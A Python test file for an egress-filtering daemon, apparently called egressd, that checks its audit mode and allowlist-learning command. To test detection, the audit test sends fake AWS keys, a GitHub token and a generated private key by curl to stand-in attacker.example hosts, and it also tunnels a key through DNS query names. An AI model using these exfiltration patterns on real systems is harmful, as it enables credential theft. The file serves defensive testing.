"""Issue 5: audit mode (`enforce = no`) and `egressd learn`.

Audit mode keeps inspecting: a SYN that would be denied passes, the decision
and its event come with the first payload (so the event has the name); a DNS
query that would be refused is forwarded and logged `dns_deny` with
`enforced: false`. The workload works; every would-be denial is logged once.

Learn: a workload run in audit mode with nothing allowed (level = all), its
log turned into an allowlist by `egressd learn`, then the same workload run
enforcing with that list passes completely, while a new destination is denied.
"""
import base64
import json
import os

import lab as L
from exfil import common as X



def start(lab, **kw):
    e = lab.write_conf(**kw)
    X.with_metrics(e)
    return e.start()


def flow_key(ev):
    return (ev.get("proto"), ev.get("src"), ev.get("sport"), ev.get("dst"), ev.get("dport"))


def named_denies(e, name):
    return [x for x in e.events("deny") if x.get("name") == name]


def wait_named_deny(e, name):
    return e.wait_event(lambda x: x.get("event") == "deny" and x.get("name") == name,
                        what="deny event named " + name)


def assert_once_per_flow(e):
    """Each would-be-denied flow is logged exactly once (no SYN event and payload event)."""
    seen = {}
    for ev in e.events("deny"):
        seen.setdefault(flow_key(ev), []).append(ev)
    twice = {k: v for k, v in seen.items() if len(v) > 1}
    assert not twice, "flows logged more than once:\n" + "\n".join(
        json.dumps(x) for v in twice.values() for x in v)


def dns_diag(lab, burst):
    """What the resolvers saw, for a burst that was not answered in full."""
    m = X.Metrics(lab)
    with open(os.path.join(lab.dir, "dnsmasq.log"), errors="replace") as f:
        dm = f.read()
    return "burst %s; egressd %s; dnsmasq: %d queries, %d forwarded, %d replies; attacker: %d" % (
        {k: v for k, v in burst.items() if k != "names"},
        [x for x in m.text.splitlines() if x.startswith("egressd_dns")],
        dm.count("query["), dm.count("forwarded"), dm.count("reply "),
        len(lab.attacker_dns_queries()))


# -- audit -----------------------------------------------------------------

def test_audit_exfil_workload_passes_and_is_logged(anylab):
    """The indicators workload, with real DNS: everything works, everything is flagged."""
    e = start(anylab, enforce=False)
    pem_file = os.path.join(anylab.dir, "stolen.key")
    L.run(["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:prime256v1",
           "-out", pem_file])
    with open(pem_file) as f:
        pem_body = "".join(f.read().strip().splitlines()[1:-1])
    keys = json.dumps({"aws_access_key_id": X.AWS_KEY_ID, "aws_secret_access_key": X.AWS_SECRET})

    # HTTP exfiltration, names resolved through egressd (forwarded: audit).
    # -4: one connection per request (curl's happy eyeballs would add a v6 attempt).
    p = anylab.curl("http://collect.attacker.example/upload", "-4", "--data-binary", keys,
                    "-H", "Content-Type: application/json")
    assert p.returncode == 0 and p.stdout == "ok\n", (p.returncode, p.stdout, p.stderr)
    p = anylab.curl("http://api.attacker.example/v1/collect?access_token=" + X.GITHUB_TOKEN,
                    "-4")
    assert p.returncode == 0 and p.stdout == "ok\n", (p.returncode, p.stdout, p.stderr)
    p = anylab.curl("http://paste.attacker.example/new", "-4", "--data-binary",
                    "@" + pem_file)
    assert p.returncode == 0 and p.stdout == "ok\n", (p.returncode, p.stdout, p.stderr)
    p = anylab.curl("http://updates.examp1e.com/upload", "-4", "-d", "x=1")
    assert p.returncode == 0 and p.stdout == "ok\n", (p.returncode, p.stdout, p.stderr)
    # DNS exfiltration: answered by the attacker's server.
    b32 = base64.b32encode(X.AWS_KEY_ID.encode()).decode().rstrip("=").lower()
    for label in (X.AWS_KEY_ID, b32):
        r = anylab.dnsq(L.RESOLVER4, "%s.k.attacker.example/A" % label)
        assert r.get("rcode") == "NOERROR", r
        assert [a["value"] for a in r["answers"]] == [L.ATTACKER4], r
    # Each answer comes from the attacker's Python server through dnsmasq: a gentler rate.
    burst = X.dnsburst(anylab, "attacker.example", 500, rate=100, seed=7)
    assert burst["rcodes"] == {"NOERROR": 500} and burst["unanswered"] == 0, dns_diag(anylab, burst)

    # The attacker got it all (this is audit), egressd flagged it all.
    heads = [c["head"] for c in anylab.attacker_records()["connections"]]
    assert any(h.startswith("POST /upload") and X.AWS_SECRET in h for h in heads), heads
    assert any(h.startswith("GET /v1/collect?access_token=") for h in heads), heads
    asked = {q["qname"].lower() for q in anylab.attacker_dns_queries()}
    assert set(burst["names"]) <= asked

    ev = wait_named_deny(e, "collect.attacker.example")
    assert ev.get("name_source") == "http_host", ev
    assert {"credential:aws_access_key", "credential:aws_secret_key"} <= set(ev["indicators"])
    assert ev.get("severity") == "critical", ev
    ev = wait_named_deny(e, "api.attacker.example")
    assert "credential:github_token" in ev.get("indicators", []), ev
    ev = wait_named_deny(e, "paste.attacker.example")
    assert "credential:private_key" in ev.get("indicators", []), ev
    ev = wait_named_deny(e, "updates.examp1e.com")
    assert "typosquat" in ev.get("indicators", []), ev
    # Both key-carrying queries (plain, base32) are logged with the labels
    # that carry the key redacted; identical lines aggregate with a count.
    def redacted_logged():
        evs = [x for x in e.events("dns_deny")
               if x.get("qname") == "[redacted].attacker.example"]
        return evs if sum(x.get("count", 1) for x in evs) >= 2 else None
    for ev in L.wait_for(redacted_logged, 5, "two redacted dns_deny events"):
        assert "credential:aws_access_key" in ev.get("indicators", []), ev
        assert ev.get("enforced") is False, ev

    def tunnel_logged():
        evs = {x["qname"]: x for x in e.events("dns_deny")}
        return evs if all(n in evs for n in burst["names"]) else None
    evs = L.wait_for(tunnel_logged, 10, "dns_deny events for the 500 burst names")
    late = [evs[n] for n in burst["names"][19:]]
    assert all("dns_tunnel" in x.get("indicators", []) for x in late)

    for ev in e.events():
        if ev.get("event") in ("deny", "dns_deny"):
            assert ev.get("enforced") is False, ev
    denies = e.events("deny")
    assert all(x.get("name") for x in denies), "a would-be-denied flow without its name: %s" % (
        [x for x in denies if not x.get("name")])
    assert_once_per_flow(e)

    m = X.Metrics(anylab)
    assert m.get("egressd_packets_total", verdict="deny") == 0
    assert m.get("egressd_packets_total", verdict="drop") == 0
    assert m.get("egressd_flows_total", decision="deny", reason="name_not_allowed") >= 4
    X.assert_no_leak(anylab, {"aws secret": X.AWS_SECRET, "github token": X.GITHUB_TOKEN,
                              "private key": pem_body}, {"metrics": m.text})


def test_audit_tls_flow_gets_its_name(anylab):
    """A would-be-denied HTTPS flow works and is logged once, named by its SNI."""
    e = start(anylab, enforce=False)
    p = anylab.curl("https://cdn-b.example.org/file")
    assert p.returncode == 0, p.stderr
    assert p.stdout == L.site_body("cdn-b")
    p = anylab.curl("https://updates.example.com/file")
    assert p.returncode == 0 and p.stdout == L.site_body("updates"), p.stderr
    ev = wait_named_deny(e, "cdn-b.example.org")
    assert ev.get("name_source") == "sni", ev
    assert ev.get("enforced") is False, ev
    assert ev.get("dst") in ("203.0.113.30", "2001:db8:2::30"), ev
    dev = e.wait_event(lambda x: x.get("event") == "dns_deny"
                       and x.get("qname") == "cdn-b.example.org", what="dns_deny cdn-b")
    assert dev.get("enforced") is False, dev
    e.wait_event(lambda x: x.get("event") == "allow" and x.get("name") == "updates.example.com",
                 what="allow updates.example.com")
    assert len(named_denies(e, "cdn-b.example.org")) == 1, X.events_dump(e)
    assert not named_denies(e, "updates.example.com"), X.events_dump(e)
    assert_once_per_flow(e)
    assert [x for x in anylab.nginx_access() if x.startswith("cdn-b")], anylab.nginx_access()


def test_audit_nameless_flow_logged_once(anylab):
    """TLS to an address literal (no SNI): passes, one event, no name."""
    e = start(anylab, enforce=False)
    p = anylab.curl("https://203.0.113.11/file", "-k", "-H", "Host: mirror.example.net")
    assert p.returncode == 0 and p.stdout == L.site_body("mirror"), (p.returncode, p.stderr)
    ev = e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == "203.0.113.11",
                      what="audit deny of the nameless flow")
    assert ev.get("enforced") is False, ev
    assert not ev.get("name"), ev
    assert "ip_literal" in ev.get("indicators", []), ev
    assert_once_per_flow(e)
    assert len([x for x in e.events("deny") if x.get("dst") == "203.0.113.11"]) == 1


# -- learn -----------------------------------------------------------------

NOTHING = "# learning: nothing allowed yet\n"
EXPECTED_ENDPOINTS = ["updates.example.com:443", "mirror.example.net:80", "mirror.example.net:443",
                      "cname.example.com:443", "cdn-a.example.org:443", "203.0.113.20:443"]
NOT_LEARNED = ["cdn-b.example.org:443", "updates.example.com:80", "203.0.113.11:443",
               "attacker.example:443"]


def learn_workload(lab):
    """Downloads by name over IPv4 and IPv6, port 80 and 443, a CNAME, an address.

    The family is pinned per request: with both, curl races a v6 and a v4
    connection and abandons one, whose late packets would muddy the log.
    """
    out = []
    for url, fam, site in (("https://updates.example.com/file", "-4", "updates"),
                           ("http://mirror.example.net/file", "-6", "mirror"),
                           ("https://mirror.example.net/file", "-6", "mirror"),
                           ("https://cname.example.com/file", "-4", "updates"),
                           ("https://203.0.113.20/file", "-4", "static")):
        p = lab.curl(url, fam, timeout=6)
        out.append((url, p.returncode, p.stdout == L.site_body(site), p.stderr.strip()))
    r = lab.dnsq(L.RESOLVER4, "cdn-a.example.org/A")
    out.append(("dns cdn-a.example.org", r.get("rcode"),
                [a["value"] for a in r.get("answers", [])] == ["203.0.113.30"], ""))
    return out


def assert_workload_ok(results, phase):
    bad = [x for x in results if x[1] not in (0, "NOERROR") or not x[2]]
    assert not bad, "%s: the workload failed: %s" % (phase, bad)


def test_learn_roundtrip(anylab):
    e = start(anylab, enforce=False, allow=NOTHING, level="all")
    assert_workload_ok(learn_workload(anylab), "audit, nothing allowed")
    # Flows are logged as they are decided; wait for the last one.
    e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == "203.0.113.20",
                 what="audit deny of 203.0.113.20")
    e.wait_event(lambda x: x.get("event") == "dns_deny" and x.get("qname") == "cdn-a.example.org",
                 what="dns_deny cdn-a.example.org")
    assert all(x.get("enforced") is False for x in e.events("deny"))
    e.stop()

    p = e.cmd("learn", e.log)
    assert p.returncode == 0, p.stderr
    learned = p.stdout
    with open(os.path.join(anylab.dir, "learned.list"), "w") as f:
        f.write(learned)
    entries = [ln.strip() for ln in learned.splitlines() if ln.strip() and not ln.startswith("#")]
    assert 5 <= len(entries) <= 6, "not a minimal list:\n" + learned

    # Enforce with exactly what was learned.
    e2 = anylab.write_conf(allow=learned, enforce=True, level="all")
    X.with_metrics(e2)
    p = e2.cmd("check", "-c", e2.conf)
    assert p.returncode == 0, p.stdout + p.stderr
    for ep in EXPECTED_ENDPOINTS:
        p = e2.cmd("match", "-c", e2.conf, ep)
        assert p.returncode == 0, "learned list does not allow %s: %s%s\n%s" % (
            ep, p.stdout, p.stderr, learned)
    for ep in NOT_LEARNED:
        p = e2.cmd("match", "-c", e2.conf, ep)
        assert p.returncode != 0, "learned list allows %s:\n%s" % (ep, learned)
    n0 = len(e2.events())
    e2.start()
    assert_workload_ok(learn_workload(anylab), "enforcing the learned list")
    e2.wait_event(lambda x: x.get("event") == "allow" and x.get("dst") == "203.0.113.20",
                  what="allow of 203.0.113.20 by the learned list")
    after = e2.events()[n0:]
    refused = [x for x in after if x.get("event") in ("deny", "dns_deny")]
    assert not refused, "the learned list denied part of the workload:\n" + "\n".join(
        json.dumps(x) for x in refused)
    rules = {x.get("rule", "").rsplit(":", 1)[0] for x in after if x.get("event") == "allow"}
    assert rules == {os.path.join(anylab.dir, "allow.d", "lab.list")}, rules

    # Something new is denied.
    p = anylab.curl("https://cdn-b.example.org/file", timeout=5)
    assert p.returncode != 0 and p.elapsed < 2, (p.returncode, p.elapsed, p.stdout)
    e2.wait_event(lambda x: x.get("event") == "dns_deny" and x.get("qname") == "cdn-b.example.org"
                  and x.get("enforced") is True, what="dns_deny of the new name")
    p = anylab.curl("http://updates.example.com/file", timeout=5)
    assert p.returncode != 0 and p.elapsed < 2, (p.returncode, p.elapsed, p.stdout)
    e2.wait_event(lambda x: x.get("event") == "deny" and x.get("dport") == 80
                  and x.get("dst") in ("203.0.113.10", "2001:db8:2::10")
                  and x.get("enforced") is True, what="deny of updates.example.com:80")
    anylab.assert_attacker_got_nothing()
